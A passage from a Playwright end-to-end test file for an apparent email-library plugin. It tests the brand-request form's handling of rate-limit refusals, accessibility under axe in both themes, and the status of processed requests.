      expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('Quiet Harbour Tea');
      // Send is held until then, the refusal its description: pressed, or Enter in a field, nothing goes (it went and was refused again).
      const sendButton = form.getByRole('button', { name: 'Send request' });
      expect(await sendButton.getAttribute('aria-disabled')).toBe('true');
      expect(await sendButton.evaluate((button) => document.getElementById(button.getAttribute('aria-describedby') ?? '')?.textContent)).toMatch(/^You have made today’s 50/);
      const refused = posts.length;
      await sendButton.focus();
      await h.page.keyboard.press('Enter');
      await form.getByLabel('Website').press('Enter');
      await ui.waitForTimeout(500);
      expect(posts).toHaveLength(refused);
      expect(await form.getByLabel('Website').inputValue()).toBe('quietharbourtea.com');
      await checkAxeAsync(ui, 'brand requests, light');
    } finally {
      stopWatching();
      await faults.setAsync({ rate: 0 });
    }
  });

  /** Every brand request sent is refused with a 429 asking to wait `seconds` (two minutes unless told); the list still reads. Returns the undo. */
  async function refuseBrandRequestsAsync(page: Page, seconds = 120): Promise<() => Promise<void>> {
    const requests = (url: URL) => url.pathname === '/v1/brand-requests';
    return addRouteAsync(page, requests, (route) =>
      route.request().method() === 'POST'
        ? route.fulfill(librarySlowDownFor(seconds))
        : route.fallback(),
    );
  }

  it('says when a held Send can go again, and then sends (the library asked to wait two minutes)', async () => {
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    const letRequestsGo = await refuseBrandRequestsAsync(page);
    try {
      await ui.getByRole('button', { name: 'Requests', exact: true }).click();
      const form = ui.getByRole('form', { name: 'Ask for a brand' });
      const send = form.getByRole('button', { name: 'Send request' });
      const outcome = ui.getByTestId('request-outcome');
      await form.getByLabel('Brand', { exact: true }).fill('Tidewater Linen');
      await form.getByLabel('Website').fill('tidewaterlinen.com');
      await send.focus();
      await page.keyboard.press('Enter');
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^The library had too many requests to take yours\. You can try again after (?:[A-Z][a-z]+day )?\d\d:\d\d(?::\d\d)?, in about 2 minutes\. Your form is kept\.\s*$/);
      expect(await send.getAttribute('aria-disabled')).toBe('true');
      await letRequestsGo();
      await context.clock.fastForward('02:01');
      // Said in the outcome's live region; the keyboard stays on Send.
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/ Your form is kept\.\s*You can send your request now\.$/);
      expect(await send.getAttribute('aria-disabled')).toBeNull();
      expect(await send.evaluate((button) => button === document.activeElement)).toBe(true);
      await send.click();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^Requested Tidewater Linen\./);
    } finally {
      await context.close();
    }
  });

  it('leaves My requests as they are when the library asks to wait before another request (it read them again at once, was refused too, and said so a second time)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    await expect.poll(() => textOf(ui.getByTestId('requests-today')), { timeout: 10_000 }).toContain('brand requests used');
    // The minute's allowance spent: every ask is refused for two minutes, the list's too.
    const requests = (url: URL) => url.pathname === '/v1/brand-requests';
    let listReads = 0;
    const stopRequestsAsync = await addRouteAsync(h.page, requests, (route) => {
      if (route.request().method() === 'GET') listReads++;
      return route.fulfill(librarySlowDownFor(120));
    });
    try {
      const form = ui.getByRole('form', { name: 'Ask for a brand' });
      await form.getByLabel('Brand', { exact: true }).fill('Tidewater Linen');
      await form.getByLabel('Website').fill('tidewaterlinen.com');
      await form.getByRole('button', { name: 'Send request' }).click();
      await expect.poll(() => textOf(ui.getByTestId('request-outcome')), { timeout: 10_000 }).toContain('The library had too many requests to take yours.');
      await ui.waitForTimeout(1_500);
      expect(listReads).toBe(0);
      expect(await ui.getByRole('region', { name: 'Brand requests' }).getByRole('alert').count()).toBe(0);
    } finally {
      await stopRequestsAsync();
    }
  });

  it('leaves a held Send still until its wait is over, instead of waking the screen every second for it', async () => {
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    const letRequestsGo = await refuseBrandRequestsAsync(page);
    try {
      await ui.getByRole('button', { name: 'Requests', exact: true }).click();
      // The list read (a wait for "Loading…" to go passed before the read began): nothing on the screen is still loading.
      await expect.poll(() => textOf(ui.getByTestId('requests-today')), { timeout: 10_000 }).toMatch(/ of today’s 50 brand requests used/);
      // Counts the plugin window's every-second ticks from here on (it draws nothing else on a timer here).
      await ui.evaluate(() => {
        const counted = window as unknown as { ticks: number };
        counted.ticks = 0;
        const original = window.setInterval.bind(window);
        window.setInterval = ((tick: () => void, ms?: number) => original(() => (counted.ticks++, tick()), ms)) as typeof window.setInterval;
      });
      const form = ui.getByRole('form', { name: 'Ask for a brand' });
      const send = form.getByRole('button', { name: 'Send request' });
      await form.getByLabel('Brand', { exact: true }).fill('Tidewater Linen');
      await form.getByLabel('Website').fill('tidewaterlinen.com');
      await send.click();
      await expect.poll(() => send.getAttribute('aria-disabled'), { timeout: 10_000 }).toBe('true');
      await context.clock.runFor(5_000);
      expect(await ui.evaluate(() => (window as unknown as { ticks: number }).ticks)).toBe(0);
      expect(await send.getAttribute('aria-disabled')).toBe('true');
      await letRequestsGo();
      await context.clock.fastForward('02:00');
      await expect.poll(() => send.getAttribute('aria-disabled'), { timeout: 10_000 }).toBeNull();
    } finally {
      await context.close();
    }
  });

  it('says a short wait in words that stay true once it is over (“Send yours again in a moment” stayed beside “You can send your request now”)', async () => {
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    const letRequestsGo = await refuseBrandRequestsAsync(page, 5);
    try {
      await ui.getByRole('button', { name: 'Requests', exact: true }).click();
      const form = ui.getByRole('form', { name: 'Ask for a brand' });
      const outcome = ui.getByTestId('request-outcome');
      await form.getByLabel('Brand', { exact: true }).fill('Tidewater Linen');
      await form.getByLabel('Website').fill('tidewaterlinen.com');
      // The window's clock stands still from here, as a busy or hidden window's timers can: the
      // refusal is drawn, but the screen has not yet set its timer for the wait's end when the
      // wait is over (the order that failed in CI; the screen then said the wait forever).
      await pauseClockAtAsync(context.clock, secondAheadAsync(ui));
      await form.getByRole('button', { name: 'Send request' }).click();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^The library had too many requests to take yours\. You can send it again after a short wait\. Your form is kept\.\s*$/);
      await letRequestsGo();
      await context.clock.fastForward(6_000);
      await context.clock.resume();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/after a short wait\. Your form is kept\.\s*You can send your request now\.$/);
    } finally {
      await context.close();
    }
  });

  it('still says today’s count under My requests when the list cannot be read again after a request', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    const today = ui.getByTestId('requests-today');
    await expect.poll(() => textOf(today), { timeout: 10_000 }).toMatch(/^\d+ of today’s 50 brand requests used/);
    const usedBefore = Number(/^(\d+)/.exec((await textOf(today)) ?? '')![1]);
    // The request goes through; reading the list after it fails.
    const requests = (url: URL) => url.pathname === '/v1/brand-requests';
    const stopRequestsAsync = await addRouteAsync(h.page, requests, (route) => (route.request().method() === 'GET' ? route.abort() : route.fallback()));
    try {
      const form = ui.getByRole('form', { name: 'Ask for a brand' });
      await form.getByLabel('Brand', { exact: true }).fill('Copper Kettle Goods');
      await form.getByLabel('Website').fill('copperkettlegoods.com');
      await form.getByRole('button', { name: 'Send request' }).click();
      await expect.poll(() => textOf(ui.getByTestId('request-outcome')), { timeout: 10_000 }).toMatch(/^Requested Copper Kettle Goods\./);
      await expect.poll(() => ui.getByRole('region', { name: 'Brand requests' }).getByRole('button', { name: 'Try again' }).count(), { timeout: 10_000 }).toBe(1);
      await expect.poll(() => textOf(today), { timeout: 10_000 }).toMatch(new RegExp(`^${usedBefore + 1} of today’s 50 brand requests used`));
    } finally {
      await stopRequestsAsync();
    }
  });

  it('opens the brand already in the library, and without a key says how to add one', async () => {
    const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=1', state.library.keys.demo);
    let ui = await openBrowseAsync('dark', 'key');
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    const form = ui.getByRole('form', { name: 'Ask for a brand' });
    await form.getByLabel('Brand', { exact: true }).fill(top.data[0]!.name);
    await form.getByLabel('Website').fill('example-of-a-known-brand.com');
    await h.page.screenshot({ path: `${SHOTS}/library-request-form-dark.png` });
    await form.getByRole('button', { name: 'Send request' }).click();
    await ui.getByRole('button', { name: 'Open its page' }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(top.data[0]!.name);

    ui = await openBrowseAsync('dark', 'anonymous');
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    await expect.poll(() => textOf(ui.getByTestId('requests-need-key')), { timeout: 10_000 }).toContain('needs your library key');
  });
});

describe('Browse in both themes', () => {
  for (const theme of ['light', 'dark'] as const) {
    it(`search and detail are clean under axe in the ${theme} theme (screenshots)`, async () => {
      const ui = await openBrowseAsync(theme, 'key');
      await expect.poll(() => emailList(ui).locator('img').evaluateAll((images) => images.every((image) => (image as HTMLImageElement).complete)), { timeout: 10_000 }).toBe(true);
      await checkAxeAsync(ui, `search, ${theme}`);
      await h.page.screenshot({ path: `${SHOTS}/library-search-${theme}.png` });
      await cards(ui).first().click();
      await ui.getByRole('heading', { level: 2 }).waitFor({ timeout: 10_000 });
      await checkAxeAsync(ui, `detail, ${theme}`);
      await h.page.screenshot({ path: `${SHOTS}/library-detail-${theme}.png` });
      await ui.getByRole('button', { name: 'HTML' }).click();
      await ui.locator('iframe.email-html').waitFor();
      await h.page.screenshot({ path: `${SHOTS}/library-detail-html-${theme}.png` });
    });
  }
});

describe('Browse: a request the library has processed', () => {
  it('shows a captured brand’s new status with the link to its page', async () => {
    const advanceAsync = async (seconds: number) => {
      const response = await fetch(`${h.emulator.libraryUrl}/_emulator/clock`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ advance_seconds: seconds }) });
      expect(response.ok).toBe(true);
    };
    let ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    const form = ui.getByRole('form', { name: 'Ask for a brand' });
    await form.getByLabel('Brand', { exact: true }).fill('Northwind Paper Studio');
    await form.getByLabel('Website').fill('northwindpaperstudio.com');
    await form.getByRole('button', { name: 'Send request' }).click();
    await expect.poll(() => textOf(ui.getByTestId('request-outcome')), { timeout: 10_000 }).toMatch(/^Requested Northwind Paper Studio\. Queued\./);

    // Two processing runs later the first email is in. The plugin opened again, as a person coming
    // back would (its one-minute response cache would otherwise answer the list); the emulator kept.
    await advanceAsync(2 * 86_400);
    const listed = await libraryAsync<{ data: Array<{ brand: string; status: string; library_url: string | null; requested_at: string }> }>('/v1/brand-requests', state.library.keys.demo);
    const mine = listed.data.find((request) => request.brand === 'Northwind Paper Studio');
    expect(mine?.status).toBe('first_email_captured');
    await h.openAsync('?command=browse&theme=light&demo-keys=1');
    ui = await h.uiFrameAsync();
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    const row = ui.getByRole('list', { name: 'My requests' }).getByRole('listitem').filter({ hasText: 'Northwind Paper Studio' });
    await expect.poll(() => textOf(row), { timeout: 10_000 }).toContain('The first email has arrived: the brand is now in the library.');
    expect(await row.getByRole('link', { name: 'Its page in the library' }).getAttribute('href')).toBe(mine!.library_url);
    // When it was asked for, as the library has it (it said nothing of when).
    const requested = new Date(mine!.requested_at);
    const month = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][requested.getUTCMonth()];
    await expect.poll(() => textOf(row), { timeout: 10_000 }).toMatch(new RegExp(`northwindpaperstudio\\.com · Requested ${requested.getUTCDate()} ${month}( \\d{4})?\\s*The first email`));
  });
});

/** The first email of the search, its HTML in the library set to `html`, opened as HTML: its frame on the page and inside. */
async function openEmailHtmlAsync(ui: Frame, html: string) {
  const list = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
  const target = list.data[0]!;
  const stored = await fetch(`${h.emulator.libraryUrl}/_emulator/library/emails/${target.id}/html`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ html }) });
  expect(stored.ok).toBe(true);
  await cards(ui).first().click();
  await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(target.subject_line);
  await ui.getByRole('button', { name: 'HTML' }).click();
  const frameElement = ui.getByTitle(`HTML of “${target.subject_line}”`);
  await frameElement.waitFor();
  const frame = (await (await frameElement.elementHandle())!.contentFrame())!;
  return { target, frameElement, frame };
}
